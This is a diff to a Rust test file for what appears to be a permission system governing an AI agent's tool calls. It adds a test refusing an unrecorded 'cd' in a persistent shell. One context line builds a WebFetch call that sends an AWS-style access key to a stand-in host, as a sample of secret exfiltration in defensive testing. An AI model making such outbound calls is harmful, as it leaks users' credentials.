@@ -5,7 +5,7 @@ use bailiwick_domain::testing::sample;
 use bailiwick_domain::{Action, CallId, CommandReading, ContentHash, ErrorCode, ReadOnly, ToolCall, json};
 use pollster::block_on;
 
-use super::world::{World, command};
+use super::world::{World, broken, command};
 
 /// A command that is proved to read these paths.
 fn reads(paths: &[&str]) -> CommandReading {
@@ -308,4 +308,21 @@ fn a_yes_to_what_leaves_counts_for_one_call() {
     active
         .passes_by_yes(&active.call("WebFetch", json!({"url": "https://x.example/?k=AKIAABCDEFGHIJKLMNOP"})));
     assert!(active.pendings.calls().is_empty());
+}
+
+// A3, K-24: where a host keeps its shell, a `cd` of which no trace can be kept does not run, for what follows would be
+// judged in the wrong folder.
+#[test]
+fn a_move_of_a_kept_shell_that_cannot_be_remembered_does_not_run() {
+    let world = World::on(HostTraits { keeps_shell: true, ..HostTraits::default() });
+    let into_src = ReadOnly { folder: Some("src".to_owned()), ..reading(&["."]) };
+    world.commands.insert("cd src && ls", CommandReading::ReadOnly(into_src));
+    world.commands.insert("cat README.md", reads(&["README.md"]));
+    world.passes_unasked(&command(&world, "cat README.md"));
+    world.sessions.fail_to_save(Some(broken()));
+    world.refuses(&command(&world, "cd src && ls"), ErrorCode::LedgerUnavailable);
+    world.sessions.fail_to_save(None);
+    world.passes_unasked(&command(&world, "cat README.md"));
+    world.passes_unasked(&command(&world, "cd src && ls"));
+    world.refuses(&command(&world, "cat README.md"), ErrorCode::StateViolation);
 }
